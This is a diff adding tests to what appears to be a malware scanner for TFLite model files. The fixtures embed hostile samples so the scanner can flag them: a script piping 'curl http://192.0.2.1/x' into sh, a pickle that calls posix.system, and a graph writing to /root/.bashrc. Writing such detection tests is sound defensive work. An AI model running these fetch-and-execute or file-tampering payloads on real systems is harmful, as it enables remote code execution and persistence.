@@ -122,6 +122,27 @@ describe('TFLite', () => {
     ]);
   });
 
+  it('searches buffers that nothing uses', () => {
+    const unused = (content: Uint8Array) => verdicts(model({ buffers: [{}, {}, { 0: { bytes: content } }] }));
+    expect(unused(Buffer.from('#!/bin/sh\ncurl http://192.0.2.1/x | sh\n'))).toEqual([
+      'payload/hides-program high',
+    ]);
+    const call = '\x80\x04\x8c\x05posix\x8c\x06system\x93\x8c\x09echo hey!\x85R.';
+    expect(unused(Buffer.from(call, 'latin1'))).toContain('payload/hides-pickle medium');
+    expect(unused(Buffer.alloc(64, 3))).toEqual([]);
+  });
+
+  it('reads the graphs that attributes of a Flex node hold', () => {
+    const { constant, graphDef, node } = tensorflow;
+    const inner = graphDef([constant('p', '/root/.bashrc'), node('w', 'WriteFile', ['p', 'p'])]);
+    const definition = node('n', 'While', ['x'], { serialized: inner });
+    const options = flexOptions('While', definition);
+    expect(verdicts(model({ code: custom('FlexWhile'), options }))).toEqual([
+      'format/hides-data medium',
+      'graph/writes-file high',
+    ]);
+  });
+
   it('tells what leads outside of the model', () => {
     const anomalies = (plan: ModelPlan) =>
       walk(model(plan))
